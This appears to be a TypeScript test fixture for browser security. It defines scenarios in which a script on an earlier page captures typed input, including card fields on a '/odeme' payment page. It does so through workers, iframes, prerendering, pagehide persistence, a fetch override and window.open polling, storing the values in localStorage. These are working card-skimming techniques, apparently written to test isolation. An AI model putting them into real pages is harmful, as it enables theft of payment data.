import { leading } from './pages.ts'

/** Writes down what is typed where the browser keeps it, so that whoever looks finds it after its page is gone. */
const note = `(text) => {
  localStorage.setItem('seen', (localStorage.getItem('seen') ?? '') + '|' + text)
  new BroadcastChannel('seen').postMessage(text)
}`
const listen = `(page) => page.addEventListener('input', ({ target }) => (${note})(target.value), true)`

/** Runs on a page before, and tries to be there when the card is typed. */
export const listensToTheCard = leading(
  `{
  document: () => (${listen})(document),
  worker: () => {
    (${listen})(document)
    const text = 'onmessage = () => 0'
    const file = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))
    globalThis.workers = Promise.allSettled([
      navigator.serviceWorker.register(document.querySelector('script[src*="/modules/"]').src),
      navigator.serviceWorker.register('/modules/mf-content/worker.js', { scope: '/odeme' }),
      new Promise((resolve, reject) => { const one = new SharedWorker(file); one.onerror = reject; setTimeout(resolve, 1000) }),
      new Promise((resolve, reject) => { const one = new Worker(file); one.onerror = reject; setTimeout(resolve, 1000) }),
    ]).then((ends) => ends.map(({ status }) => status))
  },
  frame: () => {
    (${listen})(document)
    const frame = document.createElement('iframe')
    frame.src = '/odeme'
    frame.onload = () => { try { (${listen})(frame.contentDocument); globalThis.framed = frame.contentDocument.title } catch (error) { globalThis.framed = String(error) } }
    document.body.append(frame)
  },
  prerender: () => {
    (${listen})(document)
    const rules = document.createElement('script')
    rules.type = 'speculationrules'
    rules.textContent = JSON.stringify({ prerender: [{ urls: ['/odeme'] }] })
    document.body.append(rules)
  },
  pagehide: () => {
    (${listen})(document)
    addEventListener('pagehide', () => { setInterval(() => (${note})('alive'), 1); Promise.resolve().then(() => (${note})('left')) })
    addEventListener('beforeunload', () => setTimeout(() => (${listen})(document)))
  },
  address: () => { (${listen})(document); history.replaceState(null, '', '/odeme') },
  connection: () => {
    (${listen})(document)
    const real = window.fetch
    window.fetch = (to, ...more) => String(to).includes('/health') ? Promise.reject(new TypeError('taken')) : real(to, ...more)
  },
  navigation: () => { (${listen})(document); navigation.addEventListener('navigate', (event) => event.canIntercept && event.intercept()) },
}`,
  `{
  opened: () => watch(window.open('/odeme')),
  neighbour: () => watch(window.open('/')),
}`,
  `const watch = (opened) => setInterval(() => { try { const { value } = opened.document.querySelector('[name=card], [name=from]'); if (value) (${note})(value) } catch {} }, 20)`,
)
